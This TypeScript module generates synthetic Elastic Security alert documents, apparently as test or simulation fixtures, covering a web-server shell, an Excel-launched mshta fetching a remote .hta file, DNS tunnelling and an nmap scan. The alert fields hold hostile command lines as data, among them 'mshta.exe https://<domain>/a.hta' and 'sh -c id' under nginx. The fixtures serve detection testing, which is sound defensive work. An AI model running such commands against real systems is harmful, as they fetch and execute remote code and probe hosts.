import { type Make, type Scene } from '../scene'
import type { Host } from '../world'

interface Rule {
  id: string
  name: string
  severity: 'low' | 'medium' | 'high' | 'critical'
  score: number
  type: string
}

/** An alert document of Elastic Security, as the webhook connector posts it: flat keys of Kibana, ECS beside them. */
function alert(scene: Scene, host: Host, { id, name, severity, score, type }: Rule, ecs: object): object {
  const { random, at, person, world } = scene
  return {
    '@timestamp': at.toISOString(),
    'kibana.version': '8.17.0',
    'kibana.space_ids': ['default'],
    'kibana.alert.uuid': random.hex(64),
    'kibana.alert.status': 'active',
    'kibana.alert.workflow_status': 'open',
    'kibana.alert.severity': severity,
    'kibana.alert.risk_score': score,
    'kibana.alert.reason': `event on ${host.name} by ${person.login} created ${severity} alert ${name}.`,
    'kibana.alert.rule.name': name,
    'kibana.alert.rule.uuid': id,
    'kibana.alert.rule.rule_type_id': type,
    'kibana.alert.rule.category': 'Custom Query Rule',
    'kibana.alert.rule.producer': 'siem',
    'kibana.alert.rule.tags': ['Use Case: Threat Detection'],
    agent: { id: random.uuid(), type: 'endpoint', version: '8.17.0', name: host.name },
    host: { name: host.name, hostname: host.name, ip: [host.ip], os: { type: host.os } },
    user: { name: person.login, domain: world.slug.toUpperCase() },
    event: { kind: 'signal', category: ['process'], dataset: 'endpoint.events.process' },
    ...ecs,
  }
}

const webShell: Make = (scene) =>
  alert(scene, scene.linux, { id: '5a0c2b1e-0f3f-4a5e-9d77-2d6f6f0b7a01', name: 'Shell started by a web server', severity: 'critical', score: 91, type: 'siem.eqlRule' }, { process: { name: 'sh', executable: '/bin/sh', command_line: 'sh -c id', pid: scene.random.int(900, 60_000), parent: { name: 'nginx' } }, source: { ip: scene.stranger } }) // prettier-ignore

const rareParent: Make = (scene) =>
  alert(scene, scene.windows, { id: '5a0c2b1e-0f3f-4a5e-9d77-2d6f6f0b7a02', name: 'Unusual child process of an office application', severity: 'high', score: 73, type: 'siem.eqlRule' }, { process: { name: 'mshta.exe', executable: 'C:\\Windows\\System32\\mshta.exe', command_line: `mshta.exe https://${scene.domain}/a.hta`, pid: scene.random.int(900, 60_000), parent: { name: 'excel.exe' }, hash: { sha256: scene.file.sha256 } } }) // prettier-ignore

const dnsTunnel: Make = (scene) =>
  alert(scene, scene.linux, { id: '5a0c2b1e-0f3f-4a5e-9d77-2d6f6f0b7a03', name: 'Many long names asked for under one domain', severity: 'medium', score: 47, type: 'siem.thresholdRule' }, { dns: { question: { registered_domain: scene.domain } }, destination: { ip: scene.stranger, port: 53 } }) // prettier-ignore

const newTool: Make = (scene) =>
  alert(scene, scene.linux, { id: '5a0c2b1e-0f3f-4a5e-9d77-2d6f6f0b7a04', name: 'Network scanner run on a server', severity: 'low', score: 21, type: 'siem.queryRule' }, { process: { name: 'nmap', executable: '/usr/bin/nmap', command_line: `nmap -sV ${scene.linux.ip}/24`, pid: scene.random.int(900, 60_000) } }) // prettier-ignore

export const elastic = { webShell, rareParent, dnsTunnel, newTool }
